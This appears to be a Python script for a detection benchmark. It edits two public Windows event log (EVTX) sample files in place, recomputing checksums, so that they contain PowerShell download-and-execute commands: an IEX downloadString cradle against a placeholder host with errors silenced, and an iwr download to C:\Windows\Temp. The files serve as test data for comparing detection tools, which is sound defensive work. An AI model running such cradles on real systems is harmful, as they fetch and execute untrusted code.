#!/usr/bin/env python3
"""Plant the benchmark's attacks into copies of two shared-corpus EVTX files.

    bench/plant_evtx.py CORPUS_WINDOWS_DIR OUT_DIR

The side-by-side benchmark compares detections, so its EVTX set must hold attacks
that every tool is expected to find. The corpus files hold none that silence
PowerShell's errors *and* download code, so two real records are rewritten in
place, keeping every other byte of the files:

* the 4104 script block of `mdecrevoisier_…ID4103-4104-Payload_download_via_PowerShell.evtx`
  (record 1: a quoted, printed cradle) becomes a cradle that runs with the error
  preference silenced;
* the Sysmon 1 command line of `sbousseaden_…PanacheSysmon_vs_AtomicRedTeam01.evtx`
  (record 83: `cmd /c bitsadmin /transfer …`) becomes `cmd /c powershell -c iwr …
  -OutFile C:\\Windows\\Temp\\… -ea 0`.

Each new text has the old text's length in UTF-16 units (padded with spaces), so
no BinXML size changes; the chunk's record and header CRC32s are recomputed. Only
the record named is touched (the 4103 record and the child's ParentCommandLine
that quote the same text are left as they were). Prints one line per planted
record; exits non-zero if a text is not found exactly once in its record.
"""
import os
import struct
import sys
import zlib

CHUNK = 65536
FILE_HEADER = 4096

PLANTS = [
    (
        "mdecrevoisier_EVTX-to-MITRE-Attack_ID4103-4104-Payload_download_via_PowerShell.evtx",
        1,
        "\"IEX(New-Object Net.WebClient).downloadString("
        "'https://miro.medium.com/max/1400/1*FnPDYeZVrGTbuE7Lj7JhgQ.png')\"",
        "$ErrorActionPreference='SilentlyContinue';"
        "IEX(New-Object Net.WebClient).downloadString('https://x.io/a')",
    ),
    (
        "sbousseaden_EVTX-ATTACK-SAMPLES_PanacheSysmon_vs_AtomicRedTeam01.evtx",
        83,
        "\"C:\\Windows\\system32\\cmd.exe\" /c \"bitsadmin.exe  /transfer /Download "
        "/priority Foreground https://raw.githubusercontent.com/redcanaryco/"
        "atomic-red-team/master/atomics/T1197/T1197.md C:\\Windows\\Temp\\bitsadmin_flag.ps1\"",
        "\"C:\\Windows\\system32\\cmd.exe\" /c \"powershell -c iwr "
        "https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/"
        "T1197/T1197.md -OutFile C:\\Windows\\Temp\\bitsadmin_flag.ps1 -ea 0\"",
    ),
]


def records(chunk):
    """(record id, start, end) of each record in a chunk."""
    free = struct.unpack_from("<I", chunk, 48)[0]
    pos = 512
    while pos + 24 <= free and chunk[pos:pos + 4] == b"\x2a\x2a\x00\x00":
        size = struct.unpack_from("<I", chunk, pos + 4)[0]
        if size < 24 or pos + size > free:
            break
        yield struct.unpack_from("<Q", chunk, pos + 8)[0], pos, pos + size
        pos += size


def plant(data, record_id, old, new):
    if len(new) > len(old):
        raise ValueError(f"new text longer than the old ({len(new)} > {len(old)})")
    old_b = old.encode("utf-16-le")
    new_b = new.ljust(len(old)).encode("utf-16-le")
    for off in range(FILE_HEADER, len(data) - CHUNK + 1, CHUNK):
        chunk = data[off:off + CHUNK]
        if chunk[:8] != b"ElfChnk\x00":
            continue
        for rid, start, end in records(chunk):
            if rid != record_id:
                continue
            body = chunk[start:end]
            if body.count(old_b) != 1:
                raise ValueError(f"record {record_id}: text found {body.count(old_b)} times")
            chunk[start:end] = body.replace(old_b, new_b)
            free = struct.unpack_from("<I", chunk, 48)[0]
            struct.pack_into("<I", chunk, 52, zlib.crc32(chunk[512:free]))
            struct.pack_into("<I", chunk, 124, zlib.crc32(chunk[:120] + chunk[128:512]))
            data[off:off + CHUNK] = chunk
            return
    raise ValueError(f"record {record_id} not found")


def main():
    if len(sys.argv) != 3:
        sys.exit(__doc__.split("\n\n")[1])
    src, out = sys.argv[1], sys.argv[2]
    os.makedirs(out, exist_ok=True)
    for name, record_id, old, new in PLANTS:
        data = bytearray(open(os.path.join(src, name), "rb").read())
        try:
            plant(data, record_id, old, new)
        except ValueError as e:
            sys.exit(f"plant_evtx: {name}: {e}")
        with open(os.path.join(out, name), "wb") as f:
            f.write(data)
        print(f"planted {name} record {record_id}")


if __name__ == "__main__":
    main()
